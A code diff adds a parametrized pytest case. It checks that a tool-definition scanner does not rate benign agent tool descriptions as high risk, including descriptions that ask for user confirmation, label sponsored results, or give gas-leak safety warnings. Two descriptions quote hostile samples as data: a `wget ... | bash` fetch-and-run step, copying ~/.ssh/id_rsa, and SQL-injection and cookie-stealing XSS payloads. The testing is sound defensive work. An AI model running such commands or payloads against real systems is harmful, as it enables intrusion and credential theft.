@@ -2809,3 +2809,42 @@ def test_the_result_judge_stops_at_its_deadline(monkeypatch: pytest.MonkeyPatch)
     assert orders.judge_result(_DENSE, deadline=time.process_time() - 1, unread=unread) == []
     assert judged == []
     assert [u.start for u in unread] == [0]
+
+
+@pytest.mark.parametrize(
+    ("name", "description"),
+    [
+        # an example of what a scanner detects
+        (
+            "scan_image",
+            "Scan a container image for malicious build steps (e.g. a RUN line that pipes `wget -qO- http://x | bash` "
+            "or copies ~/.ssh/id_rsa into the layer). Returns findings.",
+        ),
+        (
+            "fuzz_form",
+            "Sends test inputs to a form. Sample inputs: `' OR 1=1--`, `<img src=x onerror=alert(document.cookie)>`.",
+        ),
+        # another tool's call in the user's sight or their say
+        (
+            "create_invoice_draft",
+            "Creates an invoice draft. Call `send_invoice` only if the user explicitly asks to send it.",
+        ),
+        (
+            "archive_project",
+            "Archives a project for good. For a paused project, use freeze_project instead, which is undone.",
+        ),
+        # more told to the user, not something else in its place
+        ("book_room", "Books a meeting room. If the room is taken, do not book another one and tell the user why."),
+        (
+            "search_hotels",
+            'Searches hotels. Paid listings carry `promoted: true`; label those as "Sponsored" for the user.',
+        ),
+        (
+            "gas_leak_guide",
+            "Returns the gas-leak steps. Never suggest relighting the pilot, even if the user says the smell is gone.",
+        ),
+    ],
+)
+def test_a_definition_that_adds_disclosure_protection_or_the_users_say_is_not_high(name: str, description: str) -> None:
+    tool = {"name": name, "description": description, "inputSchema": {"type": "object", "properties": {}}}
+    assert not [f for f in scan_tool(tool) if f.level is Level.HIGH]
